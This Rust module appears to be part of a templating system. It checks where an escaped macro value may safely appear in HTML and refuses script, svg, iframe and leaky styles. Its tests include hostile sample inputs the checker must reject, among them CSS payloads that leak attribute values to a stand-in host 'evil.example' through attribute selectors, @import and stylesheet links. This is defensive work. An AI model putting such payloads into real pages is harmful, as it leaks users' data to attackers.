//! Where in HTML a macro may stand.
//!
//! In text, in the quoted value of a `title` or an `alt`, and in the quoted `href` of a link (`a`) behind the host of an
//! `https:` or `http:` address: there a value with its five characters escaped is text and nothing else, and leads
//! nowhere else. Not in a comment, a style, the name of a tag or an attribute, a value without quotes, nor in an address
//! that is loaded without being asked for, which would carry the code to whoever wrote the template. That is the whole
//! promise; it is no check of whether the HTML is well formed.
//!
//! What is read here is read as a browser does (WHATWG HTML, section 13.2.5), for which elements that change how the
//! rest is read are refused.

use std::ops::Range;

/// Elements that a message has no use for, or that change how what follows is read.
const REFUSED: &[&str] = &[
    "script",
    // Another address for what a link or an image names, and styles that nobody has looked at.
    "base",
    "embed",
    "iframe",
    "link",
    "math",
    "noembed",
    "noframes",
    "noscript",
    "object",
    "plaintext",
    "svg",
    "textarea",
    "xmp",
];

/// A stretch of HTML that a macro could stand in.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Place {
    /// Between tags.
    Text,
    /// The quoted value of an attribute: the names of its element and its own, in lower case.
    Attribute(String, String),
}

/// What cannot be read on with.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Broken {
    /// It has no end.
    Open(&'static str),
    /// An element that is refused.
    Refused(String),
    /// A style that could tell the value of an attribute.
    Style,
}

/// Where a place is.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Span {
    pub(super) place: Place,
    /// From where on, and up to where, a value is text; empty where it never is.
    safe: Range<usize>,
}

/// Whether a macro may stand at `at`.
pub(super) fn allows(spans: &[Span], at: usize) -> bool {
    spans.iter().any(|span| span.safe.contains(&at))
}

/// From where on a value may stand in the address of a link: behind the host, which no value may choose.
fn behind_the_host(address: &str) -> Option<usize> {
    let scheme = ["https://", "http://"]
        .into_iter()
        .find(|scheme| address.starts_with(scheme))?;
    let host = &address[scheme.len()..];
    let length = host.find(['/', '?'])?;
    Some(scheme.len() + length + 1)
}

/// The places of `html`, from left to right.
pub(super) fn spans(html: &str) -> Result<Vec<Span>, Broken> {
    let mut reader = Reader {
        html,
        at: 0,
        spans: Vec::new(),
    };
    while reader.at < html.len() {
        reader.next()?;
    }
    Ok(reader.spans)
}

struct Reader<'a> {
    html: &'a str,
    at: usize,
    spans: Vec<Span>,
}

/// White space of HTML.
fn is_space(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\u{c}' | '\r' | ' ')
}

impl<'a> Reader<'a> {
    fn rest(&self) -> &'a str {
        &self.html[self.at..]
    }

    /// Goes on to the first character that `ends`, or to the end; says what it passed.
    fn until(&mut self, ends: impl Fn(char) -> bool) -> &'a str {
        let rest = self.rest();
        let length = rest.find(ends).unwrap_or(rest.len());
        self.at += length;
        &rest[..length]
    }

    /// Goes on behind the nearest of `marks`.
    fn behind(&mut self, marks: &[&str], what: &'static str) -> Result<(), Broken> {
        let rest = self.rest();
        let end = marks
            .iter()
            .filter_map(|mark| rest.find(mark).map(|at| at + mark.len()))
            .min()
            .ok_or(Broken::Open(what))?;
        self.at += end;
        Ok(())
    }

    /// A stretch of text, a comment or a tag.
    fn next(&mut self) -> Result<(), Broken> {
        let rest = self.rest();
        let after = rest.strip_prefix('<');
        let begins = |text: &str| text.starts_with(|c: char| c.is_ascii_alphabetic());
        match after {
            None => {
                let start = self.at;
                self.until(|c| c == '<');
                self.text(start..self.at);
                Ok(())
            }
            Some(comment) if comment.starts_with("!--") => {
                self.at += "<!--".len();
                for short in [">", "->"] {
                    if self.rest().starts_with(short) {
                        self.at += short.len();
                        return Ok(());
                    }
                }
                self.behind(&["-->", "--!>"], "a comment")
            }
            Some(tag) if begins(tag.strip_prefix('/').unwrap_or(tag)) => self.tag(),
            // A doctype, or what a browser takes as a comment.
            Some(other) if other.starts_with(['!', '?', '/']) => {
                self.at += 2;
                self.behind(&[">"], "a comment")
            }
            Some(after) => {
                // With a value behind it it could become a tag.
                let length = if after.starts_with('#') { 2 } else { 1 };
                self.text(self.at..self.at);
                self.at += length;
                Ok(())
            }
        }
    }

    fn text(&mut self, safe: Range<usize>) {
        let place = Place::Text;
        self.spans.push(Span { place, safe });
    }

    fn tag(&mut self) -> Result<(), Broken> {
        self.at += 1;
        let closes = self.rest().starts_with('/');
        if closes {
            self.at += 1;
        }
        let name = self
            .until(|c| is_space(c) || matches!(c, '/' | '>'))
            .to_ascii_lowercase();
        if REFUSED.contains(&name.as_str()) {
            return Err(Broken::Refused(name));
        }
        let element = if closes { "" } else { &name };
        loop {
            self.until(|c| !is_space(c) && c != '/');
            match self.rest().chars().next() {
                None => return Err(Broken::Open("a tag")),
                Some('>') => break,
                Some(_) => self.attribute(element)?,
            }
        }
        self.at += 1;
        match element {
            "style" => {
                let inside = self.raw("</style", "a style")?;
                // A rule that asks for the value of an attribute, `p[title^="1"]`, and has an address loaded where it is
                // met, tells a code to that address; a backslash hides one, and an import brings others.
                let style = self.html[inside].to_ascii_lowercase();
                if style.contains(['[', '\\']) || style.contains("@import") {
                    return Err(Broken::Style);
                }
                Ok(())
            }
            "title" => {
                let inside = self.raw("</title", "a title")?;
                // What begins like an end tag could become one with a value behind it.
                let sound = !self.html[inside.clone()].contains('<');
                self.text(if sound { inside } else { 0..0 });
                Ok(())
            }
            _ => Ok(()),
        }
    }

    fn attribute(&mut self, element: &str) -> Result<(), Broken> {
        let start = self.at;
        // An equals sign in front belongs to the name.
        self.at += self.rest().chars().next().map_or(0, char::len_utf8);
        self.until(|c| is_space(c) || matches!(c, '/' | '>' | '='));
        let name = self.html[start..self.at].to_ascii_lowercase();
        let before = self.at;
        self.until(|c| !is_space(c));
        if !self.rest().starts_with('=') {
            self.at = before;
            return Ok(());
        }
        self.at += 1;
        self.until(|c| !is_space(c));
        match self.rest().chars().next() {
            Some(quote @ ('"' | '\'')) => {
                self.at += 1;
                let start = self.at;
                self.until(|c| c == quote);
                if self.rest().is_empty() {
                    return Err(Broken::Open("a quoted value"));
                }
                let from = match (element, name.as_str()) {
                    (_, "title" | "alt") => Some(0),
                    ("a", "href") => behind_the_host(&self.html[start..self.at]),
                    _ => None,
                };
                let safe = from.map_or(0..0, |from| start + from..self.at);
                let place = Place::Attribute(element.to_owned(), name);
                self.spans.push(Span { place, safe });
                self.at += 1;
            }
            // The tag ends, or the line does.
            Some('>') | None => {}
            Some(_) => {
                self.until(|c| is_space(c) || c == '>');
            }
        }
        Ok(())
    }

    /// Goes on to the end tag `end` of an element whose inside has no tags.
    fn raw(&mut self, end: &str, what: &'static str) -> Result<Range<usize>, Broken> {
        let start = self.at;
        let folded = self.rest().to_ascii_lowercase();
        let length = folded
            .match_indices(end)
            .map(|(at, _)| at)
            .find(|at| {
                folded[at + end.len()..]
                    .chars()
                    .next()
                    .is_none_or(|c| is_space(c) || matches!(c, '/' | '>'))
            })
            .ok_or(Broken::Open(what))?;
        self.at += length;
        Ok(start..self.at)
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::super::fill::{escaped, fill, macros};
    use super::*;

    fn sound(html: &str) -> bool {
        spans(html).is_ok_and(|spans| {
            macros(html)
                .iter()
                .all(|(place, _)| allows(&spans, place.start))
        })
    }

    #[test]
    fn a_value_stands_where_it_is_text() {
        for html in [
            "#M#",
            "<p>#M#</p>",
            "<p class=x>#M#<br/></p >",
            "a < b #M#",
            "<title>#M#</title>",
            "<p title=\"#M#\">x</p>",
            "<p title = '#M#'>x</p>",
            "<img src=\"a.png\" alt='#M#'>",
            "<a href=\"https://example.com/?token=#M#\">x</a>",
            "<a href='http://example.com?#M#&amp;#M#'>x</a>",
            "<!doctype html><html lang=\"en\">#M#",
            "<style>p { color: #fff }</style>#M#",
            "<!-- x -->#M#",
            "<!-->#M#<!--->#M#<!-- --!>#M#",
            "<p =>#M#",
        ] {
            assert!(sound(html), "{html}");
        }
    }

    #[test]
    fn and_nowhere_else() {
        for html in [
            "<p #M#>",
            "<#M#><p#M#>",
            "<p title=#M#>",
            "<p title=a#M#>",
            "<a href=\"#M#\">",
            "<a href=#M#>",
            "<a href=' #M#'>",
            "<a href='/#M#'>",
            "<a href='java#M#'>",
            "<a href='https://#M#/'>",
            "<a href='https://example.com#M#'>",
            "<#M#",
            "a <#M#",
            "<title></ti#M#></title>",
            "<img src=\"https://example.com/?#M#\">",
            "<link href=\"https://example.com/?#M#\">",
            "<p onclick=\"go('#M#')\">",
            "<p style=\"color: #M#\">",
            "<style>#M#</style>",
            // It tells a code without being touched.
            "<style>p[title^=\"1\"] { background: url(https://evil.example/1) }</style><p title=\"#M#\">",
            "<style>@IMPORT url(https://evil.example/x.css)</style><p title=\"#M#\">",
            "<style>p\\5b title] { color: red }</style><p title=\"#M#\">",
            "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\"><p title=\"#M#\">",
            "<STYLE >#M#</StYlE>",
            "<style>a</styles>#M#</style>",
            "<!-- #M# -->",
            "<!-- --- > #M# -->",
            "<!x #M#>",
            "</ #M#>",
            "<?#M#?>",
            "</a href='x#M#'>",
            "<SCRIPT>#M#</SCRIPT>",
            "<script src='x'></script>",
            "<svg><title><img src='x'></title></svg>",
            "<xmp><a title=\"</xmp><img src=https://example.com/?#M# \">",
            "<img src=\"https://example.com/?\n<p>#M#</p>\"",
            "<p title=\"#M#",
            "<p #M#",
            "<style>#M#",
            "<title>#M#",
            "<!-- #M#",
        ] {
            assert!(!sound(html), "{html}");
        }
    }

    proptest! {
        #[test]
        fn any_text_is_read_to_its_end(html in any::<String>()) {
            let _ = spans(&html);
        }

        /// Whatever the values are, a browser sees the same tags and attributes: those of the template.
        #[test]
        fn a_value_makes_no_markup(
            html in proptest::collection::vec(
                prop_oneof![
                    Just("#M#"), Just("<p>"), Just("</p>"), Just(" "), Just("<"), Just(">"), Just("\""), Just("'"),
                    Just("<a href=\"https://a.example/#M#\">"), Just("<p title='#M#'>"), Just("<!--"), Just("-->"), Just("="),
                    Just("<title>"), Just("</title>"), Just("<style>"), Just("</style>"), Just("x"), Just("/"),
                ],
                0..12,
            ),
            value in prop_oneof![any::<String>(), "[<>\"'/=& a-z!-]{0,12}"],
        ) {
            let html = html.concat();
            prop_assume!(sound(&html));
            let places = |value: &str| -> Vec<Place> {
                spans(&fill(&html, &[("M", value)], escaped)).unwrap().into_iter().map(|span| span.place).collect()
            };
            // A value that is not empty, since text of no length is no place.
            prop_assert_eq!(places(&format!("x{value}")), places("x"));
        }
    }
}
